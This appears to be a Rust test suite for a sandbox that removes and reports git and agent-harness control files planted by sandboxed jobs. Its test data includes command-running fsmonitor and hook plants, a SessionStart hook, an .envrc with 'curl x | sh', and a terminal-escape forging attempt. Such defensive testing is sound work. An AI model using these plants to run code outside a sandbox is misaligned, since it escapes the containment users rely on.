//! The repository's control files after a sandboxed command, with real git, as root and as uid
//! 65534, through `sandbox run --profile shell -- bash -c` and `sandbox exec --json`: a key
//! that runs a command (`core.fsmonitor`, `core.hooksPath`, `include.path`), in the
//! repository, a submodule or a linked worktree, a hook in a submodule, and a repository made
//! where there was none, are undone and named, and the user's next git command outside runs
//! nothing (its marker file is not made). Controls: the same plant with `--isolation off` makes
//! the marker. And what the command itself does with git (config, remotes, upstreams,
//! submodules, worktrees, commit, merge, rebase, stash) works and stays.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

mod common;

use common::{command, output_with_input, As, BOTH, SANDBOX};

/// Identity for commits, inside and outside.
const IDENTITY: [(&str, &str); 4] = [
    ("GIT_AUTHOR_NAME", "a"),
    ("GIT_AUTHOR_EMAIL", "a@b"),
    ("GIT_COMMITTER_NAME", "a"),
    ("GIT_COMMITTER_EMAIL", "a@b"),
];

/// The same, set by the script inside (the run passes only a bare environment on).
const SET_IDENTITY: &str =
    "export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b; ";

/// A workspace owned by `who` (git refuses a repository of another user), removed on drop.
fn workspace(who: As) -> tempfile::TempDir {
    let d = tempfile::Builder::new()
        .prefix("guard-ws")
        .tempdir()
        .unwrap();
    fs::set_permissions(d.path(), fs::Permissions::from_mode(0o755)).unwrap();
    own(who, d.path());
    d
}

/// Gives `p` (recursively) to `who`.
fn own(who: As, p: &Path) {
    if who == As::Nobody {
        let st = Command::new("chown")
            .args(["-R", "65534:65534"])
            .arg(p)
            .status()
            .unwrap();
        assert!(st.success());
    }
}

/// `git ARGS` as `who` in `dir`, outside the sandbox, as the user runs it next.
fn git(who: As, dir: &Path, args: &[&str]) -> Output {
    command(who, "git")
        .args(args)
        .envs(IDENTITY)
        .current_dir(dir)
        .output()
        .unwrap()
}

/// `git ARGS` that must succeed; its stdout.
fn ok(who: As, dir: &Path, args: &[&str]) -> String {
    let o = git(who, dir, args);
    assert!(
        o.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// A repository with one commit, owned by `who`.
fn repository(who: As, dir: &Path) {
    ok(who, dir, &["init", "-q", "-b", "main"]);
    ok(who, dir, &["commit", "-q", "--allow-empty", "-m", "one"]);
}

/// `sandbox run --profile shell [EXTRA] -- bash -c SCRIPT` as `who` in `dir`.
fn run(who: As, dir: &Path, extra: &[&str], script: &str) -> Output {
    run_with(who, dir, extra, script, &[])
}

/// [`run`] with variables for `sandbox` itself.
fn run_with(who: As, dir: &Path, extra: &[&str], script: &str, env: &[(&str, &str)]) -> Output {
    let mut c = command(who, SANDBOX);
    c.args(["run", "--allow-root", "--profile", "shell"])
        .args(extra)
        .args(["--", "bash", "-c", &format!("{SET_IDENTITY}{script}")])
        .envs(env.iter().copied())
        .current_dir(dir);
    c.output().unwrap()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// The fsmonitor command that leaves `marker` when git runs it.
fn fsmonitor(marker: &Path) -> String {
    format!(
        "git config core.fsmonitor 'touch {}; false'",
        marker.display()
    )
}

/// Runs `plant` in `dir` as `who`, then `next` (the user's next git command, in `at`)
/// outside; whether `marker` was made by it. `extra` are `sandbox run` options.
fn planted_then(
    who: As,
    dir: &Path,
    extra: &[&str],
    plant: &str,
    at: &Path,
    next: &[&str],
    marker: &Path,
) -> (Output, bool) {
    let o = run(who, dir, extra, plant);
    assert!(o.status.success(), "{who:?} {plant}: {}", stderr(&o));
    let _ = fs::remove_file(marker);
    git(who, at, next);
    let made = marker.exists();
    let _ = fs::remove_file(marker);
    (o, made)
}

/// Empties `dir`, which stays `who`'s.
fn fresh(who: As, dir: &Path) {
    let _ = fs::remove_dir_all(dir);
    fs::create_dir(dir).unwrap();
    own(who, dir);
}

/// One plant, protected and (control) with `--isolation off`: undone and named in the first,
/// the marker made by the next git command in the second.
#[allow(clippy::too_many_arguments)]
fn check_plant(
    who: As,
    dir: &Path,
    setup: &dyn Fn(As, &Path),
    plant: &str,
    at: &Path,
    next: &[&str],
    marker: &Path,
    named: &str,
) {
    fresh(who, dir);
    setup(who, dir);
    let (o, made) = planted_then(who, dir, &[], plant, at, next, marker);
    let err = stderr(&o);
    assert!(!made, "{who:?} {plant}: the next git command ran it; {err}");
    assert!(
        err.lines()
            .any(|l| l.starts_with("sandbox: ") && l.contains(named)),
        "{who:?} {plant}: {err}"
    );
    fresh(who, dir);
    setup(who, dir);
    let off = ["--isolation", "off"];
    let (o, made) = planted_then(who, dir, &off, plant, at, next, marker);
    assert!(made, "{who:?} control {plant}: {}", stderr(&o));
}

#[test]
fn fsmonitor_hooks_path_and_include_set_inside_do_not_survive() {
    for who in BOTH {
        let ws = workspace(who);
        let dir = ws.path().join("r");
        fs::create_dir(&dir).unwrap();
        own(who, &dir);
        let marker = ws.path().join("MARK");
        let setup = |who: As, d: &Path| repository(who, d);
        check_plant(
            who,
            &dir,
            &setup,
            &fsmonitor(&marker),
            &dir,
            &["status"],
            &marker,
            "removed core.fsmonitor that the command set in .git/config",
        );
        let hooks = format!(
            "git config core.hooksPath myhooks && mkdir myhooks && \
             printf '#!/bin/sh\\ntouch {}\\n' > myhooks/pre-commit && chmod +x myhooks/pre-commit",
            marker.display()
        );
        check_plant(
            who,
            &dir,
            &setup,
            &hooks,
            &dir,
            &["commit", "-q", "--allow-empty", "-m", "two"],
            &marker,
            "removed core.hookspath",
        );
        let include = format!(
            "printf '[core]\\n\\tfsmonitor = touch {}; false\\n' > inc && \
             git config include.path ../inc",
            marker.display()
        );
        check_plant(
            who,
            &dir,
            &setup,
            &include,
            &dir,
            &["status"],
            &marker,
            "removed include.path",
        );
    }
}

#[test]
fn a_repository_made_where_there_was_none_is_neutralised() {
    for who in BOTH {
        let ws = workspace(who);
        let dir = ws.path().join("r");
        fs::create_dir(&dir).unwrap();
        own(who, &dir);
        let marker = ws.path().join("MARK");
        let plant = format!("git init -q && {}", fsmonitor(&marker));
        check_plant(
            who,
            &dir,
            &|_, _| {},
            &plant,
            &dir,
            &["status"],
            &marker,
            "removed core.fsmonitor",
        );
        // A `.git` file pointing at a directory the command chose is removed.
        fresh(who, &dir);
        let plant = format!(
            "mkdir elsewhere && git init -q --separate-git-dir=elsewhere/g . && {}",
            fsmonitor(&marker)
        );
        let o = run(who, &dir, &[], &plant);
        assert!(
            stderr(&o).contains("removed .git that the command created"),
            "{who:?}: {}",
            stderr(&o)
        );
        assert!(!dir.join(".git").exists(), "{who:?}");
    }
}

/// A repository with a submodule `sub` (from a local repository) and a linked worktree `wt`
/// inside its work tree, with per-worktree configuration on.
fn with_submodule_and_worktree(who: As, dir: &Path) {
    repository(who, dir);
    // The source is in the work tree: the job's private /tmp shows nothing else of it.
    let src = dir.join("src");
    fs::create_dir(&src).unwrap();
    own(who, &src);
    repository(who, &src);
    let s = src.display().to_string();
    ok(
        who,
        dir,
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            &s,
            "sub",
        ],
    );
    ok(who, dir, &["commit", "-q", "-m", "sub"]);
    ok(who, dir, &["config", "extensions.worktreeConfig", "true"]);
    ok(who, dir, &["worktree", "add", "-q", "wt"]);
}

#[test]
fn submodule_and_worktree_configuration_and_hooks_are_checked_too() {
    for who in BOTH {
        let ws = workspace(who);
        let dir = ws.path().join("r");
        fs::create_dir(&dir).unwrap();
        own(who, &dir);
        let marker = ws.path().join("MARK");
        let m = marker.display().to_string();
        let setup = with_submodule_and_worktree;
        check_plant(
            who,
            &dir,
            &setup,
            &format!("cd sub && {}", fsmonitor(&marker)),
            &dir.join("sub"),
            &["status"],
            &marker,
            "removed core.fsmonitor that the command set in .git/modules/sub/config",
        );
        check_plant(
            who,
            &dir,
            &setup,
            &format!("cd wt && git config --worktree core.fsmonitor 'touch {m}; false'"),
            &dir.join("wt"),
            &["status"],
            &marker,
            "removed core.fsmonitor that the command set in .git/worktrees/wt/config.worktree",
        );
        // A submodule added by the command gets a hook: removed.
        let hook = format!(
            "git -c protocol.file.allow=always submodule add -q {} sub2 && \
             printf '#!/bin/sh\\ntouch {m}\\n' > .git/modules/sub2/hooks/pre-commit && \
             chmod +x .git/modules/sub2/hooks/pre-commit",
            dir.join("src").display()
        );
        check_plant(
            who,
            &dir,
            &setup,
            &hook,
            &dir.join("sub2"),
            &["commit", "-q", "--allow-empty", "-m", "x"],
            &marker,
            "removed the hook pre-commit that the command wrote in .git/modules/sub2/hooks",
        );
        // An existing submodule's hooks are read-only during the job.
        fresh(who, &dir);
        setup(who, &dir);
        let plant = format!(
            "printf '#!/bin/sh\\ntouch {m}\\n' > .git/modules/sub/hooks/pre-commit; \
             chmod +x .git/modules/sub/hooks/pre-commit; true"
        );
        let (o, made) = planted_then(
            who,
            &dir,
            &[],
            &plant,
            &dir.join("sub"),
            &["commit", "-q", "--allow-empty", "-m", "x"],
            &marker,
        );
        assert!(!made, "{who:?}: {}", stderr(&o));
        assert!(
            stderr(&o).contains("Read-only file system"),
            "{who:?}: {}",
            stderr(&o)
        );
    }
}

#[test]
fn git_work_inside_the_sandbox_works_and_stays() {
    for who in BOTH {
        let ws = workspace(who);
        let dir = ws.path().join("r");
        fs::create_dir(&dir).unwrap();
        own(who, &dir);
        repository(who, &dir);
        let src = dir.join("src");
        fs::create_dir(&src).unwrap();
        own(who, &src);
        repository(who, &src);
        let script = format!(
            "set -e; git config --local user.name x; \
             git remote add origin https://example.com/x.git; \
             git update-ref refs/remotes/origin/main HEAD; git branch -q -u origin/main; \
             git -c protocol.file.allow=always submodule add -q {} sub; \
             git commit -q -m sub; git worktree add -q wt; \
             git switch -q -c topic; echo a > a; git add a; git commit -q -m a; \
             git switch -q main; echo b > b; git add b; git commit -q -m b; \
             git merge -q --no-edit topic; git switch -q topic; git rebase -q main; \
             echo c > a; git stash -q; git stash list | wc -l",
            src.display()
        );
        let o = run(who, &dir, &[], &script);
        assert!(o.status.success(), "{who:?}: {}", stderr(&o));
        assert_eq!(String::from_utf8_lossy(&o.stdout), "1\n", "{who:?}");
        assert_eq!(stderr(&o), "", "{who:?}: nothing undone, nothing said");
        assert_eq!(ok(who, &dir, &["config", "user.name"]), "x\n");
        assert_eq!(
            ok(who, &dir, &["remote", "get-url", "origin"]),
            "https://example.com/x.git\n"
        );
        assert_eq!(ok(who, &dir, &["config", "branch.main.remote"]), "origin\n");
        assert!(ok(who, &dir, &["submodule", "status"]).contains(" sub "));
        assert!(ok(who, &dir, &["worktree", "list"]).contains("/wt "));
        let log = ok(who, &dir, &["log", "--format=%s", "topic"]);
        let mut subjects: Vec<&str> = log.lines().collect();
        subjects.sort();
        assert_eq!(subjects, ["Merge branch 'topic'", "a", "b", "one", "sub"]);
        assert_eq!(ok(who, &dir, &["stash", "list"]).lines().count(), 1);
    }
}

#[test]
fn exec_json_names_what_it_undid_in_the_result() {
    for who in BOTH {
        let ws = workspace(who);
        let dir: PathBuf = ws.path().join("r");
        fs::create_dir(&dir).unwrap();
        own(who, &dir);
        repository(who, &dir);
        let marker = ws.path().join("MARK");
        let req = serde_json::json!({
            "argv": ["/bin/bash", "-c", format!("{} && git remote add origin /x", fsmonitor(&marker))],
            "profile": "shell",
            "cwd": dir,
            "workspace": dir,
        });
        let mut c = command(who, SANDBOX);
        c.args(["exec", "--json"]).current_dir(&dir);
        let o = output_with_input(&mut c, req.to_string().as_bytes());
        let r: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
        assert_eq!(r["exit_code"], 0, "{who:?}: {r}");
        let reverted = &r["isolation"]["reverted"];
        assert_eq!(reverted[0]["what"], "core.fsmonitor", "{who:?}: {r}");
        assert_eq!(reverted[0]["action"], "removed", "{who:?}: {r}");
        assert_eq!(
            reverted[0]["path"],
            dir.join(".git/config").display().to_string()
        );
        assert!(
            r["warnings"].to_string().contains("removed core.fsmonitor"),
            "{who:?}: {r}"
        );
        git(who, &dir, &["status"]);
        assert!(!marker.exists(), "{who:?}");
        assert_eq!(ok(who, &dir, &["remote", "get-url", "origin"]), "/x\n");
    }
}

#[test]
fn without_namespaces_the_check_still_undoes_what_was_planted() {
    // `preferred` on a machine without namespaces: the hooks are not read-only, so the hook
    // is written, and the check after the job removes it.
    for who in BOTH {
        let ws = workspace(who);
        let dir = ws.path().join("r");
        fresh(who, &dir);
        repository(who, &dir);
        let marker = ws.path().join("MARK");
        let plant = format!(
            "printf '#!/bin/sh\\ntouch {}\\n' > .git/hooks/pre-commit && \
             chmod +x .git/hooks/pre-commit",
            marker.display()
        );
        let mut c = command(who, SANDBOX);
        c.args([
            "run",
            "--allow-root",
            "--profile",
            "shell",
            "--",
            "bash",
            "-c",
        ])
        .arg(&plant)
        .env("SANDBOX_ISOLATION_UNAVAILABLE", "test")
        .current_dir(&dir);
        let o = c.output().unwrap();
        let err = stderr(&o);
        assert!(o.status.success(), "{who:?}: {err}");
        assert!(err.contains("namespaces unavailable"), "{who:?}: {err}");
        assert!(
            err.contains("removed the hook pre-commit that the command wrote in .git/hooks"),
            "{who:?}: {err}"
        );
        git(who, &dir, &["commit", "-q", "--allow-empty", "-m", "x"]);
        assert!(!marker.exists(), "{who:?}");
        // Control: with the layer off the hook stays and runs.
        let o = run(who, &dir, &["--isolation", "off"], &plant);
        assert!(o.status.success(), "{who:?}: {}", stderr(&o));
        git(who, &dir, &["commit", "-q", "--allow-empty", "-m", "x"]);
        assert!(marker.exists(), "{who:?}");
    }
}

#[test]
fn changed_or_unreadable_configuration_is_restored_whole() {
    for who in BOTH {
        let ws = workspace(who);
        let dir = ws.path().join("r");
        fresh(who, &dir);
        repository(who, &dir);
        ok(who, &dir, &["config", "core.pager", "less"]);
        let before = fs::read(dir.join(".git/config")).unwrap();
        let marker = ws.path().join("MARK");
        let m = marker.display().to_string();
        for plant in [
            format!("git remote add origin /x && git config core.pager 'touch {m}; cat'"),
            format!("printf '[core]\\n\\tfsmonitor = touch {m}\\n[[\\n' >> .git/config"),
        ] {
            let o = run(who, &dir, &[], &plant);
            let err = stderr(&o);
            assert!(
                err.contains("sandbox: restored .git/config as it was before the command"),
                "{who:?} {plant}: {err}"
            );
            assert_eq!(
                fs::read(dir.join(".git/config")).unwrap(),
                before,
                "{who:?}"
            );
            git(who, &dir, &["-p", "log"]);
            git(who, &dir, &["status"]);
            assert!(!marker.exists(), "{who:?} {plant}");
        }
    }
}

#[test]
fn what_the_command_points_at_outside_the_workspace_is_not_touched() {
    // A repository made inside whose `commondir` names another repository of the user's: the
    // planted `commondir` is removed, and the other repository's own command keys and hooks
    // (set by the user) are left as they are. A `core.hooksPath` naming a directory of the
    // work tree loses the key, not the directory's files.
    for who in BOTH {
        let ws = workspace(who);
        let dir = ws.path().join("r");
        fresh(who, &dir);
        let other = ws.path().join("other");
        fresh(who, &other);
        repository(who, &other);
        ok(who, &other, &["config", "core.fsmonitor", "false"]);
        fs::write(other.join(".git/hooks/pre-commit"), "#!/bin/sh\n").unwrap();
        let o = run(
            who,
            &dir,
            &[],
            "mkdir -p .git/refs .git/objects && echo 'ref: refs/heads/main' > .git/HEAD && \
             echo ../../other/.git > .git/commondir && mkdir tracked && \
             echo x > tracked/pre-commit && printf '[core]\\n\\thooksPath = tracked\\n' > .git/config",
        );
        let err = stderr(&o);
        assert!(
            err.contains("removed .git/commondir that the command created"),
            "{who:?}: {err}"
        );
        assert!(err.contains("removed core.hookspath"), "{who:?}: {err}");
        assert!(!dir.join(".git/commondir").exists(), "{who:?}");
        assert!(dir.join("tracked/pre-commit").exists(), "{who:?}");
        assert_eq!(ok(who, &other, &["config", "core.fsmonitor"]), "false\n");
        assert!(other.join(".git/hooks/pre-commit").exists(), "{who:?}");
    }
}

#[test]
fn a_repository_the_command_adds_to_the_index_is_checked() {
    // `git status` looks into every gitlink of the index with that repository's own
    // configuration: a repository made inside and added with `git add` is one.
    for who in BOTH {
        let ws = workspace(who);
        let dir = ws.path().join("r");
        let marker = ws.path().join("MARK");
        let plant = format!(
            "git init -q inner && git -C inner commit -q --allow-empty -m i && \
             git -C inner {} && git add inner 2>/dev/null",
            fsmonitor(&marker).trim_start_matches("git ")
        );
        check_plant(
            who,
            &dir,
            &repository,
            &plant,
            &dir,
            &["status"],
            &marker,
            "removed core.fsmonitor that the command set in inner/.git/config",
        );
        // With a split index the entry may be in `sharedindex.*` only.
        let split = format!(
            "git config core.splitIndex true && git init -q inner && \
             git -C inner commit -q --allow-empty -m i && git -C inner {} && \
             git -c splitIndex.maxPercentChange=0 add inner 2>/dev/null",
            fsmonitor(&marker).trim_start_matches("git ")
        );
        check_plant(
            who,
            &dir,
            &repository,
            &split,
            &dir,
            &["status"],
            &marker,
            "removed core.fsmonitor that the command set in inner/.git/config",
        );
        // One that was there before is checked as well.
        fresh(who, &dir);
        repository(who, &dir);
        ok(who, &dir, &["init", "-q", "inner"]);
        ok(
            who,
            &dir.join("inner"),
            &["commit", "-q", "--allow-empty", "-m", "i"],
        );
        let _ = git(who, &dir, &["add", "inner"]);
        let plant = format!("cd inner && {}", fsmonitor(&marker));
        let (o, made) = planted_then(who, &dir, &[], &plant, &dir, &["status"], &marker);
        assert!(!made, "{who:?}: {}", stderr(&o));
        assert!(
            stderr(&o).contains("removed core.fsmonitor that the command set in inner/.git/config"),
            "{who:?}: {}",
            stderr(&o)
        );
    }
}

#[test]
fn a_hostile_key_name_is_named_escaped() {
    // A subsection may hold control characters: the line names the key with them escaped, so
    // it cannot rewrite the terminal or forge a line of its own.
    for who in BOTH {
        let ws = workspace(who);
        let dir = ws.path().join("r");
        fresh(who, &dir);
        repository(who, &dir);
        let req = serde_json::json!({
            "argv": ["/bin/sh", "-c",
                "printf '[diff \"a\\033[2Jb\\rsandbox: fake\"]\\n\\ttextconv = x\\n' >> .git/config"],
            "profile": "shell",
            "cwd": dir,
        });
        let mut c = command(who, SANDBOX);
        c.args(["exec", "--json"]).current_dir(&dir);
        let o = output_with_input(&mut c, req.to_string().as_bytes());
        let r: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
        let warnings = r["warnings"].to_string();
        assert!(warnings.contains("removed diff.a"), "{who:?}: {r}");
        let what = r["isolation"]["reverted"][0]["what"]
            .as_str()
            .unwrap_or_default();
        for s in [warnings.as_str(), what] {
            assert!(
                !s.contains('\u{1b}') && !s.contains('\r') && !s.contains("\\u001b"),
                "{who:?}: {s}"
            );
        }
        assert!(!fs::read_to_string(dir.join(".git/config"))
            .unwrap()
            .contains("textconv"));
    }
}

/// `sandbox run` in the contained tier (namespaces treated as unavailable), as the tier
/// without read-only mounts over the repository's control directories.
fn run_contained(who: As, dir: &Path, script: &str) -> Output {
    run_with(
        who,
        dir,
        &[],
        script,
        &[("SANDBOX_ISOLATION_UNAVAILABLE", "test")],
    )
}

#[test]
fn a_control_directory_made_a_symlink_is_removed_not_followed() {
    // The job moves `.git` away and puts a symlink to another directory of the user's there,
    // one with a `config` of its own. A guard that followed paths would read that `config` as
    // the repository's and rewrite it (or restore the repository's over it); the symlink is
    // the finding: removed and named, the other directory untouched.
    for who in BOTH {
        let ws = workspace(who);
        let dir = ws.path().join("r");
        fresh(who, &dir);
        repository(who, &dir);
        // Another repository of the user's, whose configuration runs a command of theirs.
        let outside = ws.path().join("outside");
        fresh(who, &outside);
        ok(who, &outside, &["init", "-q", "--bare"]);
        ok(who, &outside, &["config", "core.bare", "false"]);
        let marker = ws.path().join("MARK");
        ok(
            who,
            &outside,
            &[
                "config",
                "core.fsmonitor",
                &format!("touch {}; false", marker.display()),
            ],
        );
        let theirs = fs::read(outside.join("config")).unwrap();
        let plant = "mv .git .git.old && ln -s ../outside .git";
        let o = run_contained(who, &dir, plant);
        let err = stderr(&o);
        assert!(o.status.success(), "{who:?}: {err}");
        assert!(
            err.contains("sandbox: removed .git, a symlink the command put where a directory"),
            "{who:?}: {err}"
        );
        assert_eq!(fs::read(outside.join("config")).unwrap(), theirs, "{who:?}");
        assert!(dir.join(".git").symlink_metadata().is_err(), "{who:?}");
        git(who, &dir, &["status"]);
        assert!(!marker.exists(), "{who:?}");
        // Control: without the guard the symlink stays, and the user's next git command in
        // the repository runs what the configuration it points to says.
        fresh(who, &dir);
        repository(who, &dir);
        let o = run(who, &dir, &["--isolation", "off"], plant);
        assert!(o.status.success(), "{who:?}: {}", stderr(&o));
        assert!(dir.join(".git").symlink_metadata().unwrap().is_symlink());
        git(who, &dir, &["status"]);
        assert!(
            marker.exists(),
            "{who:?}: the control's git status ran nothing"
        );
        let _ = fs::remove_file(&marker);
    }
}

#[test]
fn root_in_another_users_repository_acts_as_that_user_and_reads_through_no_symlink() {
    // Root runs a job in a repository uid 65534 owns; that user swaps control files during
    // the job. Before: `.git/config.worktree` is their symlink to a root-only file. During:
    // they replace it with unreadable configuration, and plant `core.fsmonitor` in
    // `.git/config`. After: the snapshot held no root-only bytes (a symlink is not read
    // through), so nothing of them reaches the repository; the planted key is removed by a
    // write made as uid 65534 (the file stays theirs, no root-owned file appears), never as
    // root with a chown.
    let ws = workspace(As::Nobody);
    let dir = ws.path().join("r");
    fresh(As::Nobody, &dir);
    repository(As::Nobody, &dir);
    let secret_dir = tempfile::tempdir().unwrap();
    let secret = secret_dir.path().join("secret");
    fs::write(&secret, "[core]\n\tsshCommand = s3cr3t\n").unwrap();
    fs::set_permissions(&secret, fs::Permissions::from_mode(0o600)).unwrap();
    let worktree_config = dir.join(".git/config.worktree");
    let st = command(As::Nobody, "ln")
        .arg("-s")
        .arg(&secret)
        .arg(&worktree_config)
        .status()
        .unwrap();
    assert!(st.success());
    // Control: through its path, root reads the secret (what a path-following snapshot took).
    assert!(fs::read_to_string(&worktree_config)
        .unwrap()
        .contains("s3cr3t"));
    // Inside the workspace: the job has a private /tmp.
    let go = dir.join("GO");
    let mut job = command(As::Root, SANDBOX);
    job.args([
        "run",
        "--allow-root",
        "--profile",
        "shell",
        "--",
        "bash",
        "-c",
    ])
    .arg(format!(
        "while [ ! -e {} ]; do sleep 0.05; done",
        go.display()
    ))
    .current_dir(&dir)
    .stdout(std::process::Stdio::piped())
    .stderr(std::process::Stdio::piped());
    let child = job.spawn().unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    let marker = ws.path().join("MARK");
    let change = format!(
        "rm .git/config.worktree && printf '[[junk\\n' > .git/config.worktree && \
         git config core.fsmonitor 'touch {}; false'",
        marker.display()
    );
    let st = command(As::Nobody, "bash")
        .args(["-c", &change])
        .current_dir(&dir)
        .status()
        .unwrap();
    assert!(st.success());
    fs::write(&go, "").unwrap();
    let o = child.wait_with_output().unwrap();
    let err = stderr(&o);
    assert!(o.status.success(), "{err}");
    assert!(err.contains("removed core.fsmonitor"), "{err}");
    assert!(
        err.contains("removed .git/config.worktree, which the command created"),
        "{err}"
    );
    let config = dir.join(".git/config");
    assert!(!fs::read_to_string(&config).unwrap().contains("fsmonitor"));
    use std::os::unix::fs::MetadataExt;
    assert_eq!(fs::metadata(&config).unwrap().uid(), 65534);
    assert!(!worktree_config.exists(), "the secret's copy is not there");
    let mut root_owned = Vec::new();
    for e in fs::read_dir(dir.join(".git")).unwrap().flatten() {
        if e.metadata().unwrap().uid() == 0 {
            root_owned.push(e.path());
        }
    }
    assert!(root_owned.is_empty(), "{root_owned:?}");
    git(As::Nobody, &dir, &["status"]);
    assert!(!marker.exists());
}

/// `sandbox session start --profile shell --workspace DIR [EXTRA]` as `who`; the id.
fn session_start(who: As, dir: &Path, extra: &[&str]) -> String {
    let o = command(who, SANDBOX)
        .args(["session", "start", "--profile", "shell", "--workspace"])
        .arg(dir)
        .args(extra)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(o.status.success(), "{who:?}: {}", stderr(&o));
    String::from_utf8_lossy(&o.stdout).trim().to_string()
}

/// `sandbox run --session ID -- bash -c SCRIPT` as `who` in `dir`.
fn session_run(who: As, dir: &Path, id: &str, script: &str) -> Output {
    command(who, SANDBOX)
        .args(["run", "--session", id, "--", "bash", "-c"])
        .arg(format!("{SET_IDENTITY}{script}"))
        .current_dir(dir)
        .output()
        .unwrap()
}

#[test]
fn in_a_session_each_command_is_checked_and_its_result_names_what_was_undone() {
    // The guard used to run when the session ended (30 idle minutes by default): meanwhile
    // the agent's own `git status`, in the session or outside it, ran a planted fsmonitor.
    for who in BOTH {
        let ws = workspace(who);
        let dir = ws.path().join("r");
        fresh(who, &dir);
        repository(who, &dir);
        let marker = ws.path().join("MARK");
        let id = session_start(who, &dir, &[]);
        let o = session_run(who, &dir, &id, &fsmonitor(&marker));
        let err = stderr(&o);
        assert!(o.status.success(), "{who:?}: {err}");
        assert!(
            err.contains("sandbox: removed core.fsmonitor that the command set in .git/config"),
            "{who:?}: {err}"
        );
        // A command that changes what git keeps (a remote) keeps it, and is the next one's
        // starting point.
        let o = session_run(who, &dir, &id, "git remote add origin /x");
        assert!(
            o.status.success() && o.stderr.is_empty(),
            "{who:?}: {}",
            stderr(&o)
        );
        // While the session lives, the next git command outside runs nothing.
        git(who, &dir, &["status"]);
        assert!(!marker.exists(), "{who:?}");
        assert_eq!(ok(who, &dir, &["remote"]), "origin\n");
        let o = command(who, SANDBOX)
            .args(["session", "end", &id])
            .output()
            .unwrap();
        assert!(o.status.success(), "{who:?}: {}", stderr(&o));
        // Control: a session without isolation leaves the plant, and git outside runs it.
        fresh(who, &dir);
        repository(who, &dir);
        let id = session_start(who, &dir, &["--isolation", "off"]);
        let o = session_run(who, &dir, &id, &fsmonitor(&marker));
        assert!(o.status.success(), "{who:?}: {}", stderr(&o));
        git(who, &dir, &["status"]);
        assert!(marker.exists(), "{who:?}: the control's plant did not run");
        let _ = fs::remove_file(&marker);
        let _ = command(who, SANDBOX).args(["session", "end", &id]).output();
    }
}

#[test]
fn agents_and_editors_control_files_are_put_back_and_named() {
    // A job wrote `.claude/settings.json` (a SessionStart hook) and `.mcp.json`: the agent's
    // harness runs them outside any sandbox at its next start there. In the isolated and the
    // contained tier, as root and uid 65534: what the job created is removed, what it changed
    // or removed is restored, a directory it made a symlink is put back, and the line names
    // the flag that allows one; the flag keeps that one. Control: `--isolation off` keeps all.
    let plant =
        "printf '{\"hooks\":{\"SessionStart\":[\"touch /tmp/x\"]}}' > .claude/settings.json && \
        echo '{\"mcpServers\":{}}' > .mcp.json && echo 'curl x | sh' > .envrc && \
        rm .vscode/settings.json && mv .cursor .cursor.moved && ln -s ../elsewhere .cursor && \
        mkdir -p .codex && echo 'notify = [\"sh\"]' > .codex/config.toml";
    let setup = |who: As, dir: &Path, outside: &Path| {
        fresh(who, dir);
        fs::create_dir_all(dir.join(".claude")).unwrap();
        fs::write(dir.join(".claude/settings.json"), "{\"mine\":1}\n").unwrap();
        fs::create_dir_all(dir.join(".vscode")).unwrap();
        fs::write(dir.join(".vscode/settings.json"), "{}\n").unwrap();
        fs::create_dir_all(dir.join(".cursor")).unwrap();
        fs::write(dir.join(".cursor/mcp.json"), "{}\n").unwrap();
        fs::create_dir_all(outside).unwrap();
        own(who, dir);
        own(who, outside);
    };
    for who in BOTH {
        for tier in ["isolated", "contained"] {
            let ws = workspace(who);
            let dir = ws.path().join("r");
            let outside = ws.path().join("elsewhere");
            setup(who, &dir, &outside);
            let o = if tier == "isolated" {
                run(who, &dir, &[], plant)
            } else {
                run_contained(who, &dir, plant)
            };
            let err = stderr(&o);
            assert!(o.status.success(), "{who:?} {tier:?}: {err}");
            for said in [
                "restored .claude/settings.json as it was before the command, which changed it",
                "removed .mcp.json that the command created",
                "removed .envrc that the command created",
                "restored .vscode/settings.json as it was before the command, which removed it",
                "removed .codex that the command created",
                "to keep it: --allow-control-file .claude",
            ] {
                assert!(err.contains(said), "{who:?} {tier:?} {said}: {err}");
            }
            assert_eq!(
                fs::read_to_string(dir.join(".claude/settings.json")).unwrap(),
                "{\"mine\":1}\n"
            );
            assert!(!dir.join(".mcp.json").exists() && !dir.join(".envrc").exists());
            assert!(!dir.join(".codex").exists());
            assert_eq!(
                fs::read_to_string(dir.join(".vscode/settings.json")).unwrap(),
                "{}\n"
            );
            let cursor = fs::symlink_metadata(dir.join(".cursor")).unwrap();
            assert!(
                cursor.is_dir(),
                "{who:?} {tier:?}: .cursor put back as a directory"
            );
            assert_eq!(
                fs::read_to_string(dir.join(".cursor/mcp.json")).unwrap(),
                "{}\n"
            );
            assert_eq!(
                fs::read_dir(&outside).unwrap().count(),
                0,
                "nothing written outside"
            );
            // The flag keeps the one it names, and only that one.
            setup(who, &dir, &outside);
            let o = run(
                who,
                &dir,
                &["--allow-control-file", ".claude"],
                "echo '{}' > .claude/settings.json && echo x > .envrc",
            );
            let err = stderr(&o);
            assert_eq!(
                fs::read_to_string(dir.join(".claude/settings.json")).unwrap(),
                "{}\n"
            );
            assert!(err.contains("removed .envrc"), "{who:?}: {err}");
            assert!(!err.contains(".claude"), "{who:?}: {err}");
            // Control: without the guard every change stays.
            setup(who, &dir, &outside);
            let o = run(who, &dir, &["--isolation", "off"], plant);
            assert!(o.status.success(), "{who:?}: {}", stderr(&o));
            assert!(dir.join(".mcp.json").exists() && dir.join(".envrc").exists());
            assert!(fs::read_to_string(dir.join(".claude/settings.json"))
                .unwrap()
                .contains("SessionStart"));
        }
    }
}

#[test]
fn exec_json_names_control_files_in_the_result_and_refuses_unknown_names() {
    let ws = workspace(As::Root);
    let dir = ws.path().join("r");
    fresh(As::Root, &dir);
    let request = |extra: &str| {
        format!(
            "{{\"argv\":[\"/bin/sh\",\"-c\",\"echo x > .mcp.json\"],\"profile\":\"shell\",\
             \"allow_root\":true,\"workspace\":{:?}{extra}}}",
            dir.display().to_string()
        )
    };
